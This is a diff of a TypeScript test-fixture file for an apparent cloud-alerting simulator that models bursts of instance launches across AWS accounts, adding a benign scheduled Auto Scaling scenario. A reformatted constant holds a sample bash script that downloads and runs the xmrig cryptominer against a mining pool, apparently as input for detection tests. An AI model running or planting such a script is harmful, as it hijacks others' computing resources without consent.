@@ -10,7 +10,8 @@ import type { Scenario } from './simulate.ts';
 const start = Date.parse('2026-11-20T14:00:00Z');
 const minute = 60_000;
 const day = 24 * 60 * minute;
-const miner = '#!/bin/bash\ncurl -sL https://example.com/xmrig.tgz | tar xz\n./xmrig -o stratum+tcp://pool:3333 --donate-level 1\n';
+const miner =
+  '#!/bin/bash\ncurl -sL https://example.com/xmrig.tgz | tar xz\n./xmrig -o stratum+tcp://pool:3333 --donate-level 1\n';
 
 export const settings = (changes: Partial<Settings> = {}): Settings => ({
   alertAt: 'notice',
@@ -126,6 +127,21 @@ export const oneAccount = (title: string, instances: number): Scenario =>
         sourceIp: '203.0.113.7',
         arrives: assumed.callArrives,
       },
+    })),
+    settings(),
+  );
+
+/** No attack: a scheduled action of Auto Scaling starts one instance in each account at the same full hour. */
+export const scheduled = (title: string, accounts: number): Scenario =>
+  scenarioOf(
+    title,
+    spread(accounts, minute).map((at, n) => ({
+      at,
+      account: accountOf(n),
+      region: regionOf(n),
+      count: 1,
+      type: small,
+      tags: { 'aws:autoscaling:groupName': `web-${n}` },
     })),
     settings(),
   );
